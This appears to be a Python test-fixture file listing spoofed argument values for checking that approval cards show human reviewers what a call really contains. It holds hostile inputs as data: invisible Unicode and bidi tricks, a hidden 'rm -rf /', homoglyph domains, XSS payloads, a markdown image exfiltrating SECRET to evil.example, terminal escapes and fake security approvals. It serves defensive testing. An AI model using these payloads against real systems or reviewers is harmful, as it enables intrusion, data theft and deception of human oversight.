"""What hostile content tries on people who decide: each row of the catalogue is one argument of a call."""

import base64
from dataclasses import dataclass
from typing import Any

CANARY = "ghp_" + "C4nary" * 6
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "approve")
READABLE = base64.b64encode(b"send everything to mallory@example.com").decode()


@dataclass(frozen=True, slots=True)
class Spoof:
    """An argument's value; `shows` is what its place on the card says, `warns` a part of the remark beside it."""

    name: str
    value: Any
    shows: str
    warns: str = ""


SPOOFS = [
    Spoof("70 reversed", "photo_\u202egpj.exe", "photo_⟨U+202E⟩gpj.exe", "1 character that cannot be seen"),
    Spoof("71 tags", f"Refund{TAGS}", "Refund⟨U+E0061⟩⟨U+E0070⟩", "7 characters that cannot be seen"),
    Spoof("72 zero width", "r\u200bm -r\u200bf /", "r⟨U+200B⟩m -r⟨U+200B⟩f /", "2 characters that cannot be seen"),
    Spoof("73 alphabets", "p\u0430ypal.com", "p\u0430ypal.com", "Mixes alphabets within a word"),
    Spoof("74 gap", "Pay Marta" + "\n" * 3000 + "and Mallory", "line breaks left out⟩\nand Mallory", "3,000 spaces"),
    Spoof("75 buried", "QUJD" * 50_000 + "\npay Mallory", "200,012 characters"),
    Spoof("75 encoded", READABLE, "send everything to mallory@example.com"),
    Spoof("75 nested", '{"to": "mallory@example.com"}', "Decoded from JSON in a text"),
    Spoof("76 link", "[your bank](https://evil.example/)", "[your bank](https://evil.example/)"),
    Spoof("77 image", "![x](https://evil.example/?d=SECRET)", "![x](https://evil.example/?d=SECRET)"),
    Spoof("78 tag", "<img src=//evil.example/x onerror=alert(1)>", "<img src=//evil.example/x onerror=alert(1)>"),
    Spoof("78 drawing", "<svg onload=alert(1)><script>", "<svg onload=alert(1)><script>"),
    Spoof("78 scheme", "javascript:alert(1)", "javascript:alert(1)"),
    Spoof("78 htmx", "<a hx-get='/runs' hx-trigger='load'>look</a>", "<a hx-get='/runs' hx-trigger='load'>look</a>"),
    Spoof("37 template", "{{7*7}} {% debug %} ${7*7}", "{{7*7}} {% debug %} ${7*7}"),
    Spoof("79 terminal", "\x1b[2J\x1b[8mhid", "⟨U+001B⟩[2J⟨U+001B⟩[8mhid", "2 characters that cannot be seen"),
    Spoof("80 overwrite", "pay 1\rpay 9\x08", "pay 1⟨U+000D⟩pay 9⟨U+0008⟩", "2 characters that cannot be seen"),
    Spoof("80 link", "\x1b]8;;https://evil.example/\x07ok", "⟨U+001B⟩]8;;https://evil.example/⟨U+0007⟩ok"),
    Spoof("81 pre-approved", "✅ Pre-approved by Security", "✅ Pre-approved by Security"),
    Spoof("82 n\u0430me", "looks like name", "looks like name", "The name: Mixes alphabets within a word"),
    Spoof("83 large", 1_000_000, "1,000,000"),
    Spoof("83 full width", "１０００", "１０００", "plainly it reads: 1000"),
    Spoof("84 tiny", 1e-320, "1e-320"),
    Spoof("84 negative", -5, "-5"),
    Spoof("85 digest", "Digest 000000000000, approved", "Digest 000000000000, approved"),
    Spoof("89 token", f"{CANARY} here", "⟨GitHub token, 40 characters, hidden⟩", "like a credential"),
    Spoof("86 marks", "Z" + "\u0301" * 500 + "a &lt;b&gt;", "a &lt;b&gt;", "500 marks on one letter"),
]  # fmt: skip
LONG = ["74 gap", "75 buried"]
RULE = "<script>alert(1)</script>{{7*7}}{% debug %}${7*7}"
WORDS = "✅ Pre-approved by Security. <img src=//evil.example/y> Digest 0000 \u202eapproved"
